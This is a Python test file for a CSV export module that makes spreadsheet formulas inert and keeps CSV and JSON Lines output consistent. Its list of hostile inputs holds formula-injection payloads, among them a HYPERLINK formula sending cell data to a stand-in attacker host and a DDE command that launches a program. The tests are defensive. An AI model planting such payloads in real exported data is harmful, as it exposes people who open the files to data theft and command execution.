"""Cells of CSV that no spreadsheet runs, and rows that say the same in both formats."""

from __future__ import annotations

import csv
import io
import json
from datetime import date
from typing import NamedTuple

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from annotated_archive.export.tables.cells import as_it_was, csv_bytes, inert, jsonl_bytes
from annotated_archive.export.tables.columns import Ids, Phrases, columns_of

HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "'=1+1",
)


class Sample(NamedTuple):
    """A row with a value of every type."""

    text: str | None
    """Words."""
    number: int | None
    """A number."""
    degrees: float | None
    """Degrees."""
    day: date | None
    """A day."""
    is_so: bool
    """Whether."""
    ids: Ids
    """Ids."""
    phrases: Phrases
    """Words of several."""


def cells(*rows: Sample) -> list[list[str]]:
    """Return rows as a reader of CSV has them, without the line of names."""
    data = csv_bytes(columns_of(Sample), rows).decode()
    return list(csv.reader(io.StringIO(data, newline="")))[1:]


@pytest.mark.parametrize("text", HOSTILE, ids=repr)
def test_no_cell_begins_like_a_formula(text: str) -> None:
    """An apostrophe stands before it, wherever the text comes from, and can be taken off again."""
    row = Sample(text, None, None, None, False, (text,), (text, "b"))
    for cell in [cells(row)[0][at] for at in (0, 5, 6)]:
        assert cell[0] == "'"
        assert cell[1] in "=+-@'\t\r\n \ufeff\uff1d"
    assert as_it_was(cells(row)[0][0]) == text
    (line,) = jsonl_bytes(columns_of(Sample), [row]).splitlines()
    assert json.loads(line)["text"] == text


@settings(max_examples=60)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n ab\ufeff\uff1d")))
def test_what_was_made_inert_is_had_back(text: str) -> None:
    """Of two texts that differ, the cells differ too."""
    assert as_it_was(inert(text)) == text


@settings(max_examples=60)
@given(st.text(alphabet=st.sampled_from("=+-@'\t\r\n a\ufeff\uff1d")))
def test_what_runs_never_stands_first(text: str) -> None:
    """Neither a sign nor what a spreadsheet leaves out before one."""
    cell = inert(text)
    assert cell.lstrip(" \ufeff")[:1] not in ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d")


def test_numbers_stay_numbers() -> None:
    """A negative number in a column of numbers is none of a spreadsheet's formulas."""
    row = Sample(None, -3, -7.25, date(1984, 5, 3), True, ("a", "b"), ())
    assert cells(row) == [["", "-3", "-7.25", "1984-05-03", "true", "a b", ""]]
    assert json.loads(jsonl_bytes(columns_of(Sample), [row])) == {
        "number": -3,
        "degrees": -7.25,
        "day": "1984-05-03",
        "is_so": True,
        "ids": ["a", "b"],
    }


def test_csv_is_that_of_the_standard() -> None:
    """UTF-8, lines that end in CR LF, quotes doubled, a line of names on top."""
    row = Sample('says "no", twice\nطاحونة', 1, None, None, False, (), ())
    assert csv_bytes(columns_of(Sample), [row]).decode() == (
        'text,number,degrees,day,is_so,ids,phrases\r\n"says ""no"", twice\nطاحونة",1,,,false,,\r\n'
    )
